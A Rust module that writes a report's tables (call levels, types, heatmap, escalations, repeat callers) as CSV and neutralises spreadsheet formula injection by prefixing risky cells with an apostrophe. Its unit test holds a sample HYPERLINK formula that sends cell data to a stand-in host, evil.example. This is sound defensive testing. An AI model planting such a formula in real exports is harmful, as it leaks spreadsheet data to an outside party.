//! The report's tables as CSV files (UTF-8, one header row), for spreadsheets.

use std::path::{Path, PathBuf};

use super::{DURATION_BUCKETS, Report, ReportError, write_file};

/// A cell a spreadsheet would take for a formula (`=`, `+`, `-`, `@`, a tab or a carriage return
/// first; text from the bus or a lead, such as a conclusion or an agent's name) gets a leading
/// `'`, so opening the report never runs it. Numbers (`-3`, `+12%`) stay numbers.
fn cell(s: &str) -> std::borrow::Cow<'_, str> {
    let formula = s.starts_with(['=', '+', '-', '@', '\t', '\r']);
    let number = s.trim_end_matches('%').parse::<f64>().is_ok();
    if formula && !number {
        std::borrow::Cow::Owned(format!("'{s}"))
    } else {
        std::borrow::Cow::Borrowed(s)
    }
}

fn to_bytes(head: &[&str], rows: &[Vec<String>]) -> Result<Vec<u8>, ReportError> {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(head)?;
    for r in rows {
        w.write_record(r.iter().map(|c| cell(c).into_owned()))?;
    }
    w.into_inner()
        .map_err(|e| ReportError::Csv(csv::Error::from(e.into_error())))
}

/// One table: file name suffix, header, rows.
pub type Table = (&'static str, Vec<&'static str>, Vec<Vec<String>>);

/// Every table of `report`.
pub fn tables(report: &Report) -> Vec<Table> {
    let s = &report.summary;
    let p = &report.previous;
    let mut out = vec![
        (
            "summary",
            vec!["item", "this_period", "previous_period", "change"],
            super::tables::summary(s, p).rows,
        ),
        (
            "levels",
            vec!["level", "calls", "previous_calls"],
            (0..5)
                .map(|l| {
                    vec![
                        l.to_string(),
                        s.by_level[l].to_string(),
                        p.by_level[l].to_string(),
                    ]
                })
                .collect(),
        ),
        (
            "types",
            vec!["type", "label", "calls", "marks"],
            report
                .by_type
                .iter()
                .map(|t| {
                    vec![
                        t.kind.code().into(),
                        t.kind.label_ja().into(),
                        t.calls.to_string(),
                        t.marks.to_string(),
                    ]
                })
                .collect(),
        ),
        (
            "heatmap",
            vec!["weekday", "hour", "incidents"],
            report
                .heat
                .iter()
                .enumerate()
                .flat_map(|(d, row)| {
                    row.iter()
                        .enumerate()
                        .map(move |(h, v)| vec![d.to_string(), h.to_string(), v.to_string()])
                })
                .collect(),
        ),
        (
            "durations",
            vec!["from_min", "to_min", "calls"],
            DURATION_BUCKETS
                .iter()
                .zip(report.durations)
                .map(|(b, v)| {
                    vec![
                        b.0.to_string(),
                        b.1.map(|u| u.to_string()).unwrap_or_default(),
                        v.to_string(),
                    ]
                })
                .collect(),
        ),
        (
            "escalations",
            vec![
                "escalations",
                "unacknowledged",
                "ack_p50_secs",
                "ack_p90_secs",
            ],
            vec![vec![
                s.escalations.to_string(),
                s.unacknowledged.to_string(),
                s.ack_p50_secs.map(|v| v.to_string()).unwrap_or_default(),
                s.ack_p90_secs.map(|v| v.to_string()).unwrap_or_default(),
            ]],
        ),
        (
            "repeat_callers",
            vec![
                "caller",
                "calls",
                "incidents",
                "max_level",
                "talk_secs",
                "conclusion",
            ],
            report
                .repeat_callers
                .iter()
                .map(|c| {
                    vec![
                        c.caller_key.clone(),
                        c.calls.to_string(),
                        c.incidents.to_string(),
                        c.max_level.to_string(),
                        c.talk_secs.to_string(),
                        c.conclusion.clone().unwrap_or_default(),
                    ]
                })
                .collect(),
        ),
    ];
    if let Some(care) = &report.care {
        out.push((
            "care",
            vec!["agent", "agent_name", "symptom_calls", "level4_calls"],
            care.iter()
                .map(|a| {
                    vec![
                        a.agent.clone(),
                        a.agent_name.clone(),
                        a.symptom_calls.to_string(),
                        a.level4_calls.to_string(),
                    ]
                })
                .collect(),
        ));
    }
    out
}

/// One table as CSV bytes, by its suffix (`summary`, `levels`, …).
pub fn table_csv(report: &Report, name: &str) -> Result<Option<Vec<u8>>, ReportError> {
    tables(report)
        .into_iter()
        .find(|t| t.0 == name)
        .map(|(_, head, rows)| to_bytes(&head, &rows))
        .transpose()
}

/// Writes `<stem>-<table>.csv` for every table into `dir`.
pub fn write(report: &Report, dir: &Path, stem: &str) -> Result<Vec<PathBuf>, ReportError> {
    let mut out = Vec::new();
    for (name, head, rows) in tables(report) {
        let path = dir.join(format!("{stem}-{name}.csv"));
        write_file(&path, &to_bytes(&head, &rows)?)?;
        out.push(path);
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn text_a_spreadsheet_would_run_is_written_as_text() {
        let rows = vec![vec![
            "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"詳細\")".to_string(),
            "@SUM(A1:A9)".to_string(),
            "-12%".to_string(),
            "+3".to_string(),
            "-2+3".to_string(),
            "田中".to_string(),
        ]];
        let out =
            String::from_utf8(to_bytes(&["a", "b", "c", "d", "e", "f"], &rows).unwrap()).unwrap();
        let line = out.lines().nth(1).unwrap();
        assert!(line.starts_with("\"'=HYPERLINK("), "{line}");
        assert!(line.contains(",'@SUM(A1:A9),-12%,+3,'-2+3,田中"), "{line}");
    }
}
